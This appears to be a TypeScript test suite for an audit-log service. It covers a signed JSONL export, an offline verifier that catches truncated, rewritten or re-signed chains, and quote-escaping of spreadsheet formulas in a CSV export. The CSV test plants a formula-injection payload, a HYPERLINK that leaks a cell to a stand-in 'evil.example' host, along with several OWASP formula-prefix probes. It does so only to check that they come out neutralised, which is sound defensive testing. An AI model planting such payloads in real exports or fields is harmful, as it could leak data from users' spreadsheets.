import { parse } from 'csv-parse/sync';
import { spawnSync } from 'node:child_process';
import { generateKeyPairSync, randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { hashRecord, type AuditRecord } from '../src/audit/audit-chain.js';
import { keyFingerprint, signCheckpoint, type Checkpoint } from '../src/audit/audit-checkpoint.js';
import { AuditService } from '../src/audit/audit.service.js';
import { canonicalJson } from '../src/common/canonical-json.js';
import { WriteQueue } from '../src/database/write-queue.js';
import { OrganizationsService } from '../src/organizations/organizations.service.js';
import { SYSTEM_ACTOR } from '../src/workflow-engine/workflow.types.js';
import { disableAppendOnly } from './support/append-only.js';
import { createApiApp, USER_PASSWORD, type ApiApp } from './support/api.js';
import { actors, organizationInput } from './support/factories.js';
import { buildService } from './support/service-build.js';
import { asText, signInToPages } from './support/web-agent.js';

/** The compiled `npm run audit:verify` (what the npm script runs), built once for the file. */
const verifier = join(dirname(dirname(resolve(buildService('audit-verify-build')))), 'scripts', 'audit-verify.js');

interface Run {
  status: number | null;
  result: Record<string, unknown> | undefined;
  stderr: string;
}

function auditVerify(...args: string[]): Run {
  const run = spawnSync(process.execPath, [verifier, ...args], { encoding: 'utf8' });
  return { status: run.status, result: run.stdout.trim() ? JSON.parse(run.stdout) : undefined, stderr: run.stderr };
}

type Line = (Omit<AuditRecord, 'payload'> & { payload: unknown }) | { checkpoint: Checkpoint };
const isCheckpoint = (line: Line): line is { checkpoint: Checkpoint } => 'checkpoint' in line;

async function download(api: ApiApp, format: 'jsonl' | 'csv'): Promise<string> {
  const response = await api.as('auditor').get(`/api/audit/export?format=${format}`).buffer(true).parse(asText).expect(200);
  return response.body as string;
}

describe('the JSONL export and `npm run audit:verify`', () => {
  let api: ApiApp;
  let dir: string;
  let exported: string;
  let lines: Line[];
  let keyFile: string;
  let head: { seq: number; hash: string };
  const file = (name: string, text: string) => {
    writeFileSync(join(dir, name), text);
    return join(dir, name);
  };
  const text = (items: Line[]) => items.map((line) => JSON.stringify(line)).join('\n') + '\n';

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'audit-export-'));
    api = await createApiApp({ AUDIT_CHECKPOINT_EVERY: '5' });
    for (let i = 0; i < 14; i += 1) await api.get(OrganizationsService).create(organizationInput({ name: `Exported ${i}` }), actors.manager);
    exported = await download(api, 'jsonl');
    lines = exported
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Line);
    const rows = lines.filter((line) => !isCheckpoint(line)) as AuditRecord[];
    head = { seq: rows[rows.length - 1].seq, hash: rows[rows.length - 1].hash };
    // Anyone may read the key, without a token, to keep it elsewhere.
    const key = await request(api.http)
      .get('/api/audit/public-key')
      .expect(200)
      .expect('Content-Type', /application\/x-pem-file/);
    keyFile = file('service-key.pem', key.text);
  }, 180_000);

  afterAll(async () => {
    await api?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('puts each checkpoint on the line after the row it signs', async () => {
    const checkpoints = lines.flatMap((line, i) => (isCheckpoint(line) ? [{ checkpoint: line.checkpoint, before: lines[i - 1] }] : []));
    expect(checkpoints.map(({ checkpoint }) => checkpoint.seq)).toEqual(Array.from({ length: Math.floor(head.seq / 5) }, (_, i) => 5 * (i + 1)));
    for (const { checkpoint, before } of checkpoints) expect(before).toMatchObject({ seq: checkpoint.seq, hash: checkpoint.hash });
    expect((await api.as('auditor').get('/api/audit/checkpoints?limit=2&offset=1').expect(200)).body).toEqual({
      items: checkpoints.slice(1, 3).map(({ checkpoint }) => checkpoint),
      total: checkpoints.length,
    });
    expect((await api.as('auditor').get('/api/audit/verify').expect(200)).body).toEqual({
      ok: true,
      events: head.seq,
      headHash: head.hash,
      checkpoints: { checked: checkpoints.length, lastSeq: checkpoints[checkpoints.length - 1].checkpoint.seq },
      documents: { checked: 0, bad: [] },
    });
  });

  it('verifies it with the service’s key and up to an expected head (exit 0)', () => {
    const run = auditVerify(file('whole.jsonl', exported), '--public-key', keyFile, '--expect-head', head.hash);
    expect(run).toMatchObject({ status: 0, stderr: expect.stringContaining('checkpoints are signed by the key given, fingerprint') });
    expect(run.result).toEqual({
      ok: true,
      events: head.seq,
      headHash: head.hash,
      checkpoints: {
        checked: Math.floor(head.seq / 5),
        lastSeq: 5 * Math.floor(head.seq / 5),
        signatures: 'verified',
        keyFingerprint: expect.stringMatching(/^[0-9a-f]{64}$/),
      },
      documents: [],
      expectedHead: head,
    });
  });

  it('says that the signatures were not checked when no key is given', () => {
    const run = auditVerify(file('whole.jsonl', exported));
    expect(run).toMatchObject({ status: 0, result: { ok: true, checkpoints: { signatures: 'not checked' } } });
    expect(run.stderr).toMatch(/signatures were NOT checked: pass --public-key/);
    expect(run.stderr).toMatch(/without --expect-head/);
  });

  it('refuses an export whose tail was cut, given the head it must reach (exit 1)', () => {
    const cut = file('cut.jsonl', exported.split('\n').slice(0, -8).join('\n') + '\n');
    const run = auditVerify(cut, '--public-key', keyFile, '--expect-head', head.hash);
    expect(run.status).toBe(1);
    expect(run.result).toMatchObject({
      ok: false,
      reason: expect.stringMatching(new RegExp(`^the export does not reach the head ${head.hash}: it ends at row \\d+ .*were cut`)),
    });
  });

  it('refuses an empty export (exit 1)', () => {
    for (const empty of ['', '\n\n']) {
      const run = auditVerify(file('empty.jsonl', empty), '--public-key', keyFile);
      expect(run).toMatchObject({ status: 1, result: { ok: false, firstBadSeq: 1, reason: expect.stringMatching(/^the export holds no rows/) } });
    }
  });

  it('sends a CSV export back to the JSONL one (exit 2)', async () => {
    const run = auditVerify(file('audit-chain.csv', await download(api, 'csv')));
    expect(run).toMatchObject({
      status: 2,
      result: undefined,
      stderr: expect.stringMatching(/this is the CSV export, which is for reading.*Verify the JSONL export/),
    });
  });

  it('refuses a key that is not an Ed25519 public key, or a head that is not a hash (exit 2)', () => {
    const rsa = file('rsa.pem', generateKeyPairSync('rsa', { modulusLength: 1024 }).publicKey.export({ type: 'spki', format: 'pem' }).toString());
    expect(auditVerify(file('whole.jsonl', exported), '--public-key', rsa)).toMatchObject({
      status: 2,
      stderr: expect.stringContaining('an rsa key, not Ed25519'),
    });
    expect(auditVerify(file('whole.jsonl', exported), '--expect-head', 'abc')).toMatchObject({
      status: 2,
      stderr: expect.stringContaining('--expect-head takes a row'),
    });
  });

  /** The export as whoever held the database would rewrite it: row 7 changed, every row after it hashed again and linked. */
  function rewritten(): Line[] {
    let prevHash = '';
    return lines.map((line) => {
      if (isCheckpoint(line)) return line;
      if (line.seq < 7) {
        prevHash = line.hash;
        return line;
      }
      const row = { ...line, prevHash, payload: line.seq === 7 ? { forged: true } : line.payload };
      prevHash = hashRecord({ ...row, payload: canonicalJson(row.payload) });
      return { ...row, hash: prevHash };
    });
  }

  it('refuses a chain rewritten and hashed again, by the checkpoints it carries, even without the key (exit 1)', () => {
    const run = auditVerify(file('rewritten.jsonl', text(rewritten())));
    expect(run).toMatchObject({
      status: 1,
      result: {
        ok: false,
        firstBadSeq: 10,
        reason: expect.stringMatching(/^row 10 does not have the hash that checkpoint 10 signed .* rewritten after row 5/),
      },
    });
  });

  it('refuses rewritten checkpoints under the service’s key, whoever signed them (exit 1)', () => {
    const forged = rewritten();
    const hashes = new Map(forged.flatMap((line) => (isCheckpoint(line) ? [] : [[line.seq, line.hash] as const])));
    const attacker = generateKeyPairSync('ed25519');
    const resigned = forged.map((line) =>
      isCheckpoint(line)
        ? {
            checkpoint: signCheckpoint(attacker.privateKey, keyFingerprint(attacker.publicKey), { ...line.checkpoint, hash: hashes.get(line.checkpoint.seq)! }),
          }
        : line,
    );
    const otherKey = auditVerify(file('resigned.jsonl', text(resigned)), '--public-key', keyFile);
    expect(otherKey).toMatchObject({
      status: 1,
      result: {
        ok: false,
        firstBadSeq: 5,
        reason: expect.stringMatching(/^checkpoint 5 was signed by another key \(fingerprint [0-9a-f]{64}\); the key given is [0-9a-f]{64}$/),
      },
    });
    // The same rows under the service's fingerprint, with signatures it never made.
    const claimed = resigned.map((line) =>
      isCheckpoint(line)
        ? { checkpoint: { ...line.checkpoint, keyFingerprint: (lines.find(isCheckpoint) as { checkpoint: Checkpoint }).checkpoint.keyFingerprint } }
        : line,
    );
    const badSignature = auditVerify(file('claimed.jsonl', text(claimed)), '--public-key', keyFile);
    expect(badSignature).toMatchObject({
      status: 1,
      result: {
        ok: false,
        firstBadSeq: 5,
        reason: expect.stringMatching(/^checkpoint 5, signed at \S+, has a signature that does not verify under the key given/),
      },
    });
    // Without the key, nothing tells these checkpoints from the service's: hence the note.
    expect(auditVerify(file('claimed.jsonl', text(claimed)))).toMatchObject({ status: 0, stderr: expect.stringContaining('NOT checked') });
  });

  it('still reads an export from before checkpoints, and says it holds none', () => {
    const old = file('old.jsonl', text(lines.filter((line) => !isCheckpoint(line))));
    const run = auditVerify(old, '--public-key', keyFile);
    expect(run).toMatchObject({ status: 0, result: { ok: true, events: head.seq, checkpoints: { checked: 0, lastSeq: null } } });
    expect(run.stderr).toMatch(/holds no checkpoints/);
  });

  it('carries the checkpoints of rows cut from the database, so the cut shows offline without --expect-head', async () => {
    const dataSource = api.get(DataSource);
    await disableAppendOnly(dataSource);
    await dataSource.query(`DELETE FROM audit_events WHERE seq > ${head.seq - 7}`);
    const run = auditVerify(file('cut-online.jsonl', await download(api, 'jsonl')), '--public-key', keyFile);
    expect(run).toMatchObject({
      status: 1,
      result: {
        ok: false,
        firstBadSeq: head.seq - 6,
        reason: expect.stringMatching(new RegExp(`names row \\d+, but the chain ends at row ${head.seq - 7}: the rows after it were cut`)),
      },
    });
  });
});

describe('the CSV export', () => {
  let api: ApiApp;

  beforeAll(async () => {
    api = await createApiApp();
  });

  afterAll(() => api?.close());

  const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';

  it('prefixes with a quote every cell a spreadsheet would run as a formula, and names each actor beside their id', async () => {
    // Through the API: a refused PATCH with a formula as request id (replaced: only plain tokens are kept)…
    const organizationId = randomUUID();
    await api.as('auditor').patch(`/api/organizations/${organizationId}`).set('X-Request-Id', FORMULA).send({ city: FORMULA }).expect(403);
    // …and a user whose display name is one.
    const evil = await api
      .as('admin')
      .post('/api/users')
      .send({ username: 'formula.user', password: USER_PASSWORD, displayName: FORMULA, roles: ['manager'] })
      .expect(201);
    const login = await request(api.http).post('/api/auth/login').send({ username: 'formula.user', password: USER_PASSWORD }).expect(200);
    await request(api.http)
      .post('/api/organizations')
      .set('Authorization', `Bearer ${login.body.accessToken}`)
      .send(organizationInput({ name: 'Formula University' }))
      .expect(201);
    // Rows written straight to the chain, starting with each character OWASP names.
    const starts = ['+SUM(1,1)', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd'];
    await api.get(WriteQueue).run(async (manager) => {
      for (const start of starts) {
        await api.get(AuditService).append(manager, {
          occurredAt: api.clock.now().toISOString(),
          actor: SYSTEM_ACTOR,
          action: 'FORMULA_PROBE',
          entityType: 'request',
          entityId: start,
          requestId: start,
          outcome: 'ok',
        });
      }
    });

    const records = parse<Record<string, string>>(await download(api, 'csv'), { columns: true });
    const columns = Object.keys(records[0]);
    expect(columns.slice(0, 5)).toEqual(['seq', 'occurredAt', 'actorId', 'actorName', 'actorRoles']);
    const live = records.flatMap((record) =>
      Object.entries(record)
        .filter(([, cell]) => /^[=+\-@\t\r]/.test(cell))
        .map(([column, cell]) => `${record.seq}.${column}: ${cell}`),
    );
    expect(live).toEqual([]);

    const refused = records.find((record) => record.action === 'PATCH /api/organizations/:id')!;
    expect(refused).toMatchObject({ outcome: 'denied', entityId: organizationId, actorId: api.ids.auditor, actorName: 'Test auditor (auditor)' });
    expect(refused.requestId).toMatch(/^[0-9a-f-]{36}$/);
    const created = records.find((record) => record.actorId === evil.body.id)!;
    expect(created).toMatchObject({ entityType: 'organization', actorName: `'${FORMULA} (formula.user)` });
    const probes = records.filter((record) => record.action === 'FORMULA_PROBE');
    expect(probes.map((record) => [record.actorName, record.entityId, record.requestId])).toEqual(starts.map((start) => ['system', `'${start}`, `'${start}`]));
    expect(records[0]).toMatchObject({ seq: '1', actorId: 'system', actorName: 'system' });
    expect(records.find((record) => record.actorId === api.ids.admin)).toMatchObject({ actorName: 'Administrator (admin)' });
  });

  it('is the same file from the audit page as from the API, in both formats', async () => {
    const auditor = await signInToPages(api.http, 'auditor');
    for (const format of ['jsonl', 'csv'] as const) {
      const fromApi = await api.as('auditor').get(`/api/audit/export?format=${format}`).buffer(true).parse(asText).expect(200);
      const fromPage = await auditor.download(`/ui/audit/export?format=${format}`);
      expect(fromPage).toMatchObject({
        status: 200,
        text: fromApi.body as string,
        headers: { 'content-type': fromApi.headers['content-type'], 'content-disposition': `attachment; filename="audit-chain.${format}"` },
      });
    }
  });
});
